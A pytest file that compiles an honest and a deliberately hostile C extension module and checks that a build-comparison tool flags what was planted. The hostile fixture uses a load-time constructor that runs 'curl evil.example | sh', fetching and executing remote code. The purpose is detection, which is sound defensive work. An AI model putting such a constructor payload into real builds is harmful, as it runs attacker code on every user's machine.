"""Two builds of one extension module, by a real compiler: the residue is named, and proves nothing."""

from __future__ import annotations

import subprocess
from pathlib import Path

from tallystick.limits import DEFAULT
from tallystick.rebuild.structure import beyond
from tools_needed import require_tool

HONEST = "int PyInit_speed(void) { return 1; }\n"
HOSTILE = """\
extern int system(const char *);
__attribute__((constructor)) static void run(void) { system("curl evil.example | sh"); }
int PyInit_speed(void) { return 1; }
"""


def compiled(text: str, folder: Path, *flags: str) -> bytes:
    (folder / "speed.c").write_text(text)
    command = [require_tool("gcc"), "-shared", "-fPIC", *flags, "-o", "speed.so", "speed.c"]
    subprocess.run(command, cwd=folder, check=True)
    return (folder / "speed.so").read_bytes()


def test_what_was_planted_is_named_by_symbol_string_and_constructor(tmp_path: Path) -> None:
    said = beyond(compiled(HOSTILE, tmp_path), compiled(HONEST, tmp_path), DEFAULT)
    assert said is not None
    text = "; ".join(said)
    assert "imports system" in text
    assert "curl evil.example | sh" in text
    assert "2 constructors, not 1" in text


def test_another_optimisation_leaves_other_instructions_and_no_symbol(tmp_path: Path) -> None:
    fast, slow = compiled(HONEST, tmp_path, "-O2"), compiled(HONEST, tmp_path, "-O0")
    assert fast != slow
    said = beyond(fast, slow, DEFAULT)
    assert said is not None
    assert not [one for one in said if "strings" not in one and "functions" not in one]


def test_what_is_no_binary_is_not_compared(tmp_path: Path) -> None:
    honest = compiled(HONEST, tmp_path)
    assert beyond(b"print(1)", honest, DEFAULT) is None
    assert beyond(honest, b"", DEFAULT) is None
    assert beyond(honest[:200], honest, DEFAULT) is None
